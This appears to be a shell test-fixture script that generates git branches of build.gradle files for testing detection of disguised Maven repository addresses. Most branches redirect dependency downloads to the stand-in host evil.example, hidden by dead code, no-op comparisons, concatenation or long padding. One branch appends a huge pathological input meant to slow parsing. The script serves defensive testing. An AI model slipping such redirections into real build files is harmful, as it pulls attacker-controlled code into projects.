# SPDX-License-Identifier: Apache-2.0
# Gradle scripts written so that their addresses look like known ones: a name that is given another address where that is not run, compared, added to, or hidden
# in a text that no one writes; repositories without a block; a folder's name that is none. A dependency that is written another way, and moves from then on.
# Scripts that took minutes and gigabytes to read. Honest: an address that goes on, comparisons, where artifacts are published to.
repo
base() { printf '%s\n' 'repositories { maven { url "https://repo.example.org/m2" } }' 'dependencies { implementation "org.other:other:1.0" }' "$@" | put build.gradle && commit x; }
base
change() { git checkout -q -b "$1" main; }
evil='def base = "https://evil.example/m2"'
use='repositories { maven { url "$base" } }'
change branch && base "$evil" 'if (false) { base = "https://repo.example.org/m2" }' "$use"
change compared && base "$evil" 'if (base == "https://repo.example.org/m2") { }' "$use"
change added && base 'def base = "https://evil.example"' 'base += "/m2"' "$use"
change folder && base "$evil" 'if (false) { base = buildDir }' 'repositories { maven { url "$base/m2" } }'
change long && base 'def base = "https://repo.example.org/m2"' "base = \"https://evil.example/$(printf '%0600d' 0)\"" "$use"
change no-block && base 'repositories.maven { url "https://evil.example/m2" }'
change home && base 'repositories { maven { url "$HOME/m2" } }'
change map && sed -i 's,"org.other:other:1.0",group: "org.other"\, name: "other"\, version: "+",' build.gradle && commit x
change snapshot && sed -i 's,other:1.0,other:1.0.snapshot,' build.gradle && commit x
change slow && python3 - <<'END'
with open("build.gradle", "a") as out:
    out.write(("=+" * 512 + "\n" * 1024) * 20 + "a=a=a=" * 350 + '"""' + "x" * 1000000 + '"""\na=\'' + "y" * 400 + "'\n" + "b=a\n" * 100000)
END
commit x
change honest && base 'def base = "https://repo.example.org/"' 'base = base + "m2"' 'if (base >= "x" || base != "y") { }' "$use" 'publishing.repositories.maven { url "https://releases.example/m2" }' 'repositories { maven { url "${System.env.HOME}/.m2" }; maven { url file("m2") } }'
